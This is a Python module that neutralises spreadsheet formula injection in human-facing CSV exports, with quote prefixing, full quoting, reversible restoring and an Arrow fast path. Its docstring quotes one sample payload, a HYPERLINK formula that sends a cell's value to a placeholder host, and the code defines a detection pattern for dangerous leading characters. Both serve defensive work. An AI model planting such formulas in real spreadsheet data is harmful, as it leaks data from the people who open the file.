"""CSV files meant for people (opened in Excel or WPS): formula injection neutralised, one way for all.

Spreadsheets run a cell as a formula when it starts with ``=``, ``+``, ``-`` or ``@`` (and after a
leading tab or carriage return), so a legacy value such as ``=HYPERLINK("http://x/?"&A1,"open")``
would act when a steward opens a quarantine file, and every E.164 phone (``+8613800000000``) would
turn into a number. Following the OWASP CSV injection guidance, every human-facing file is written
with:

- a single quote in front of each text cell that starts with one of those characters, so the
  spreadsheet shows it as text;
- every cell wrapped in double quotes with embedded double quotes doubled (RFC 4180), so a delimiter
  or quote inside a value cannot start a new cell that begins with a formula.

A value that already starts with a single quote followed by one of those characters (or by another
quote) also gets the prefix, which makes the change reversible: ``read_frame`` gives back exactly
the original values, so the tool itself can read its quarantine files without seeing the quotes.

Data Loader-shaped load files (``load/<Object>_success.csv`` / ``_error.csv``) and the CSV sent to
Salesforce stay raw: they are inputs for Data Loader and the Bulk API, which take cells literally.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any, Iterable

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_AFTER_QUOTE = DANGEROUS + (QUOTE,)
ENCODING = "utf-8-sig"  # Excel on a Chinese Windows only detects UTF-8 with a BOM
CSV_CHUNK_ROWS = 10_000  # rows ``write_csv`` turns into text at a time


def neutralise(value: Any) -> Any:
    """``value`` made inert for a spreadsheet; anything that is not a string is returned unchanged."""
    if isinstance(value, str) and value and (
            value[0] in DANGEROUS or (value[0] == QUOTE and len(value) > 1 and value[1] in _AFTER_QUOTE)):
        return QUOTE + value
    return value


def restore(value: Any) -> Any:
    """The original of a ``neutralise``-d value (the inverse; other values pass unchanged)."""
    if isinstance(value, str) and len(value) > 1 and value[0] == QUOTE and value[1] in _AFTER_QUOTE:
        return value[1:]
    return value


# the cells ``neutralise`` changes, as one regular expression (for Arrow's vectorised matching)
_DANGER_PATTERN = "^[=+\\-@\t\r]|^'[=+\\-@\t\r']"


def _arrow_text(s):
    """The column as an Arrow string array when every value is text or missing, else None."""
    import pandas as pd
    import pyarrow as pa

    try:
        if isinstance(s.dtype, pd.StringDtype):  # already Arrow (or converted by pandas' own exporter)
            return pa.array(s.array).cast(pa.string())
        if s.dtype == object and pd.api.types.infer_dtype(s, skipna=True) in ("string", "empty"):
            return pa.array(s.to_numpy(dtype=object), type=pa.string(), from_pandas=True)
    except (pa.ArrowException, UnicodeError):  # e.g. lone surrogates: the per-cell path keeps them
        return None
    return None


def _neutralised(s):
    """``s.map(neutralise)``: for a text column the cells to change are found in one Arrow pass."""
    import numpy as np
    import pandas as pd
    import pyarrow.compute as pc

    arr = _arrow_text(s)
    if arr is None:
        return s.map(neutralise)
    hit = pc.match_substring_regex(arr, _DANGER_PATTERN).fill_null(False).to_numpy(zero_copy_only=False)
    if isinstance(s.dtype, pd.StringDtype) and not hit.any():
        return s.copy()
    values = s.to_numpy(dtype=object)
    if hit.any():
        values = values.copy()
        values[hit] = [QUOTE + v for v in values[hit]]
    if isinstance(s.dtype, pd.StringDtype):
        return pd.Series(values, index=s.index, name=s.name, dtype=s.dtype)
    # built from a list, so pandas infers the dtype as ``map`` does (its text dtype for text columns)
    return pd.Series(values.tolist(), index=s.index, name=s.name)


def _neutralised_arrow(arr):
    """``neutralise`` on every cell of an Arrow string array (missing cells stay missing)."""
    import pyarrow.compute as pc

    hit = pc.match_substring_regex(arr, _DANGER_PATTERN).fill_null(False)
    if not pc.any(hit).as_py():
        return arr
    return pc.if_else(hit, pc.binary_join_element_wise(QUOTE, arr, ""), arr)


def neutralise_frame(df):
    """A copy of ``df`` whose text cells are neutralised (vectorised per column)."""
    import pandas as pd

    out = df.copy()
    for i in range(out.shape[1]):
        s = out.iloc[:, i]
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            out.isetitem(i, _neutralised(s))
    return out


def write_csv(df, fh, *, header: bool = True) -> None:
    """``df`` neutralised, written to the open file ``fh`` exactly as ``to_csv(fh, index=False,
    quoting=csv.QUOTE_ALL)`` writes it: by Arrow's CSV writer when every column is text (missing as
    ``""``), else by pandas. ``fh``: a text file, or a binary one (the same text as UTF-8 bytes, without
    decoding Arrow's bytes to encode them again)."""
    import io

    import pyarrow as pa

    binary = not isinstance(fh, io.TextIOBase)

    def by_pandas() -> None:
        frame = neutralise_frame(df)
        if not binary:
            frame.to_csv(fh, index=False, header=header, quoting=csv.QUOTE_ALL)
            return
        text = io.StringIO(newline="")
        frame.to_csv(text, index=False, header=header, quoting=csv.QUOTE_ALL)
        fh.write(text.getvalue().encode("utf-8"))

    arrays = [_arrow_text(df.iloc[:, i]) for i in range(df.shape[1])]
    names = list(df.columns)
    if not arrays or any(a is None for a in arrays) or not all(isinstance(c, str) for c in names):
        by_pandas()
        return
    # neutralised in Arrow, without a round trip through pandas; a column without any text goes the
    # pandas way (``_neutralised`` rebuilds it from a list, which may change its dtype)
    arrays = [_neutralised_arrow(a) if a.null_count < len(a) else _arrow_text(_neutralised(df.iloc[:, i]))
              for i, a in enumerate(arrays)]
    if any(a is None for a in arrays):
        by_pandas()
        return
    _write_text(pa.Table.from_arrays([a.fill_null("") for a in arrays], names=names), fh, header)


def write_table(table, fh, *, header: bool = True) -> bool:
    """``write_csv`` of the frame a table converts to, written from the table: text columns neutralised in
    Arrow, whole numbers without missing values as their digits (as pandas writes an int64 column). False,
    nothing written, for a table with any other column (pandas writes floats, booleans ... its own way)."""
    import pyarrow as pa

    arrays = []
    for f, col in zip(table.schema, table.columns):
        if f.type in ("string", "large_string"):
            arrays.append(_neutralised_arrow(col.combine_chunks().cast(pa.string())).fill_null(""))
        elif f.type == "int64" and col.null_count == 0:
            arrays.append(col.combine_chunks().cast(pa.string()))
        else:
            return False
    _write_text(pa.Table.from_arrays(arrays, names=table.column_names), fh, header)
    return True


def _write_text(table, fh, header: bool) -> None:
    """An all-text table without missing cells, every cell quoted, to the text or binary file ``fh``."""
    import io

    import pyarrow.csv as pacsv

    binary = not isinstance(fh, io.TextIOBase)
    # a slice of rows at a time, so the text in memory stays small next to the frame
    for i, part in enumerate(table.to_batches(max_chunksize=CSV_CHUNK_ROWS) or [table]):
        buf = io.BytesIO()
        pacsv.write_csv(part, buf, pacsv.WriteOptions(include_header=header and i == 0, quoting_style="all_valid"))
        fh.write(buf.getvalue() if binary else buf.getvalue().decode("utf-8"))


def write_frame(df, path: str | Path, columns: list[str] | None = None) -> Path:
    """Write ``df`` (``columns`` selects and orders) as a human-facing CSV: UTF-8 with BOM, every
    cell quoted, text cells neutralised. Creates the parent folder."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    frame = df[columns] if columns is not None else df
    with open(path, "w", encoding=ENCODING, newline="") as fh:
        write_csv(frame, fh)
    return path


def read_frame(path: str | Path, **kw):
    """Read a file written by ``write_frame`` (or ``Writer``) back as strings, original values restored.

    Empty cells are ``""`` (``keep_default_na=False``); ``kw`` goes to ``pandas.read_csv``.
    """
    import pandas as pd

    df = pd.read_csv(path, dtype=str, keep_default_na=False, encoding=ENCODING, **kw)
    df.columns = [restore(c) for c in df.columns]
    for col in df.columns:
        df[col] = df[col].map(restore)
    return df


class Writer:
    """Row-by-row human-facing CSV (for files written while streaming); close it when done."""

    def __init__(self, path: str | Path, header: Iterable[str]):
        path = Path(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        self._fh = open(path, "w", encoding=ENCODING, newline="")
        self._w = csv.writer(self._fh, quoting=csv.QUOTE_ALL)
        self._w.writerow([neutralise(h) for h in header])

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow(["" if v is None else neutralise(v) for v in row])

    def close(self) -> None:
        self._fh.close()
